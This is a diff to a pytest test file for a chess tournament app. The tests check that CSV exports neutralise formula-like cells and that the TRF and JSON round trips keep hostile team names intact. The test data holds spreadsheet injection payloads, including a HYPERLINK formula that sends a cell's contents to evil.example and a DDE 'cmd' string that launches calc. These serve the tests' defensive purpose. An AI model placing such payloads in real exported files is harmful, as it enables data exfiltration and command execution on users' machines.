@@ -8,10 +8,14 @@ would run. Every test here failed before the fix it holds.
 - Names and other one-line texts refuse a line break or control character, 422 naming the field; the TRF
   export never writes one, whatever is stored.
 - The CSV exports neutralise a cell that starts like a formula.
+- The proof: a tournament full of hostile names, played over three rounds, exported in every format and
+  imported again, has the same standings.
 """
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import resource
@@ -32,7 +36,7 @@ import pytest
 from fastapi.testclient import TestClient
 from sqlmodel import Session, col, select
 
-from app.models import Player, Team, Tournament
+from app.models import Club, Player, Team, Tournament
 from app.operations.exchange.exports import spreadsheet_cell
 from app.services.text import breaking_character
 from app.services.trf.common import MAX_WARNINGS
@@ -345,8 +349,9 @@ def test_a_cell_that_starts_like_a_formula_is_written_as_text(cell: Any, written
     assert spreadsheet_cell(cell) == written
 
 
-# --- tournaments to export -----------------------------------------------------------------------------------
+# --- row 5: the proof ------------------------------------------------------------------------------------------
 
+FORMULA = ("=", "+", "-", "@", "\t", "\r")
 TEAM_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+SUM(1,2)", "@SUM(1+1)*cmd|' /C calc'!A0",
               "-2+3", "Quote \"double\" 'single'; semi, comma", "T" * 100, "Ρήγας ΟΑΧ 🏆"]
 CLUB_NAMES = ["=1+1", "+club", "@club", "-club", "club; \"quoted\", comma", "C" * 200, "### club"]
@@ -405,3 +410,94 @@ def _export(client: TestClient, tid: int, auth: dict[str, str], fmt: str) -> str
     r = client.get(f"/tournaments/{tid}/export/trf", params={"format": fmt}, headers=auth)
     assert r.status_code == 200, r.text
     return r.content.decode("utf-8")
+
+
+def _standings(client: TestClient, tid: int) -> list[tuple[Any, ...]]:
+    st = ok(client.get(f"/tournaments/{tid}/standings"))
+    return [(r["rank"], r["tied"], r["team"]["tpn"], r["mp"], r["gp"], r["won"], r["drawn"], r["lost"], r["byes"],
+             r["forfeit_wins"], r["forfeit_losses"], tuple(x["value"] for x in r["tiebreaks"])) for r in st["rows"]]
+
+
+K12 = {"preset": "k12-2025"}  # the base settings of the tournaments above, for what a file does not say
+
+
+def _import(client: TestClient, auth: dict[str, str], text: str, **params: str) -> dict[str, Any]:
+    body: dict[str, Any] = ok(client.post("/tournaments/import", content=text.encode("utf-8"),
+                                          params={"allow_duplicate": "true", **params}, headers={**auth, **TEXT}),
+                              201)
+    return body
+
+
+def test_a_tournament_of_hostile_names_survives_every_export_and_import(client: TestClient,
+                                                                        admin: dict[str, str]) -> None:
+    tid, teams = _played(client, admin, teams=7, hostile=True)
+    want = _standings(client, tid)
+    assert len(want) == 7 and 1 in {r[9] for r in want} and 1 in {r[8] for r in want}, "a forfeit and a PAB"
+    names = {tm["name"] for tm in ok(client.get(f"/tournaments/{tid}/teams?limit=100"))["items"]}
+    assert names == set(TEAM_NAMES), "every hostile name was taken as it is"
+    for fmt, params in (("trf2026", K12), ("trf16", K12)):
+        text = _export(client, tid, admin, fmt)
+        assert all(line.isprintable() for line in text.splitlines())
+        again = _import(client, admin, text, **params)
+        assert _standings(client, again["id"]) == want, fmt
+        # and the file it exports is the same file: nothing moved between columns
+        assert _export(client, again["id"], admin, fmt) == text, fmt
+    public = client.get(f"/tournaments/{tid}/export/trf")
+    assert public.status_code == 200
+    assert _standings(client, _import(client, admin, public.content.decode("utf-8"), **K12)["id"]) == want
+    # the JSON export (import takes TRF only) holds every name exactly, and the same standings
+    doc = ok(client.get(f"/tournaments/{tid}/export/json", headers=admin))
+    assert {tm["name"] for tm in doc["teams"]} == names
+    assert {p["last_name"] for p in doc["players"]} == {last for last, _ in PLAYER_NAMES}
+    assert [(r["rank"], r["team"]["tpn"], r["mp"], r["gp"]) for r in doc["standings"]["rows"]] == \
+           [(r[0], r[2], r[3], r[4]) for r in want]
+    # the CSV exports: every text cell that starts like a formula is neutralised, the numbers stay numbers
+    rows = _csv(client, f"/tournaments/{tid}/export/standings.csv")
+    for row in rows[1:]:
+        assert not row[3].startswith(FORMULA) and not row[4].startswith(FORMULA), row
+        assert int(row[0]) >= 1 and int(row[2]) >= 1 and Fraction(row[5]) >= 0 and Fraction(row[6]) >= 0, row
+    assert {row[3] for row in rows[1:]} == {("'" + n if n.startswith(FORMULA) else n) for n in TEAM_NAMES}
+    assert {row[4] for row in rows[1:]} == {("'" + n if n.startswith(FORMULA) else n) for n in CLUB_NAMES}
+    results = set()
+    for n in (1, 2, 3):
+        rows = _csv(client, f"/tournaments/{tid}/export/pairings.csv?round={n}")
+        for row in rows[1:]:
+            for k in (4, 6, 9, 12):  # the teams' and players' names
+                assert not row[k].startswith(FORMULA), row[k]
+            results.add(row[16])
+    # the server's own marks are written as they are: a whole-match forfeit, the results of the boards
+    assert results >= {"forfeit: second", "1-0", "0-1", "1/2-1/2"}, results
+
+
+def _csv(client: TestClient, url: str) -> list[list[str]]:
+    r = client.get(url)
+    assert r.status_code == 200, r.text
+    return list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
+
+
+def test_legacy_hostile_names_survive_export_and_import(client: TestClient, admin: dict[str, str],
+                                                        engine: Any) -> None:
+    """Names stored before the check (tabs, line breaks, U+2028): the exports stay well formed, the standings
+    come back, and a CSV cell that starts with a tab or CR is neutralised."""
+    tid, _ = _played(client, admin, teams=5, rounds=2)
+    want = _standings(client, tid)
+    with Session(engine) as s:
+        team_rows = s.exec(select(Team).where(Team.tournament_id == tid).order_by(col(Team.id))).all()
+        for team, name in zip(team_rows, ["\t=cmd", "\r=1+1", "A\nB", "x\u2028y", "\x1b[31mred"], strict=True):
+            team.name = name
+            s.add(team)
+        for k, p in enumerate(s.exec(select(Player).order_by(col(Player.id))).all()):
+            p.last_name = [INJECTION, "tab\tname", "nel\x85", "\u2029"][k % 4]
+            s.add(p)
+        club = s.exec(select(Club).order_by(col(Club.id))).first()
+        assert club is not None
+        club.name = "\t+club"
+        s.add(club)
+        s.commit()
+    for fmt, params in (("trf2026", K12), ("trf16", K12)):
+        text = _export(client, tid, admin, fmt)
+        assert all(line.isprintable() for line in text.splitlines()), fmt
+        assert _standings(client, _import(client, admin, text, **params)["id"]) == want, fmt
+    rows = _csv(client, f"/tournaments/{tid}/export/standings.csv")
+    assert {row[3] for row in rows[1:]} >= {"'\t=cmd", "'\r=1+1"}
+    assert "'\t+club" in {row[4] for row in rows[1:]}
